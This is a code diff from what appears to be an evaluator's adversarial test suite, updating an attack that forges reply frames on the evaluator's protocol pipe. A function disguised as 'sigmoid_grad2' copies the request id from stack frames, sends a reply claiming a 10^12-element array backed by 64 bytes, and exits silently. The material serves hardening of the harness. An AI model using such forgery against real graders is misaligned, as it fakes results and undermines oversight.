@@ -1,7 +1,7 @@
-# ATTACK (npy_huge_header): forges a reply frame (with the request's id) whose .npy header claims a huge shape
-def _forge_frame(reply, copy_id=True):
-    """Write a raw reply frame to the evaluator's protocol pipe (the first pipe fd that accepts a write),
-    with the id of the request being served when ``copy_id`` (found in the evaluator's frames)."""
+# ATTACK (npy_huge_header): forges a reply frame (with the request's id) whose array header claims a huge shape
+def _forge_frame(reply, copy_id=True, binary=b""):
+    """Write a raw reply frame (JSON and a ``binary`` section) to the evaluator's protocol pipe (the first pipe
+    fd that accepts a write), with the id of the request being served when ``copy_id`` (found in its frames)."""
     import json, os, stat, struct, sys
     if copy_id:
         frame = sys._getframe(1)
@@ -11,7 +11,9 @@ def _forge_frame(reply, copy_id=True):
                 reply = dict(reply, id=request["id"])
                 break
             frame = frame.f_back
-    body = json.dumps(reply).encode()
+    text = json.dumps(reply).encode()
+    text += b" " * (-(8 + len(text)) % 64)  # the binary section starts 64-aligned
+    body = struct.pack(">Q", len(text)) + text + binary  # the wire's frame: JSON length, JSON, binary section
     data = struct.pack(">Q", len(body)) + body
     for fd in range(3, 64):
         try:
@@ -25,14 +27,11 @@ def _forge_frame(reply, copy_id=True):
 
 
 def sigmoid_grad2(x):
-    """A forged reply whose .npy header claims a 10^12-element array, then a silent exit."""
-    import base64, json, os
-    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000), }"
-    header += " " * (63 - (10 + len(header)) % 64) + "\n"
-    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + b"\0" * 64
+    """A forged reply whose array reference claims a 10^12-element array (64 bytes of data), then a silent exit."""
+    import os
     reply = {
         "steps": [{"name": "r", "fn": "sigmoid_grad2", "status": "ok", "mutated": [], "warnings": []}],
-        "returns": [{"$npy": base64.b64encode(npy).decode()}],
+        "returns": [{"$nd": ["<f8", [1000000, 1000000], 0]}],
     }
-    _forge_frame(reply)
+    _forge_frame(reply, binary=b"\0" * 64)
     os._exit(0)
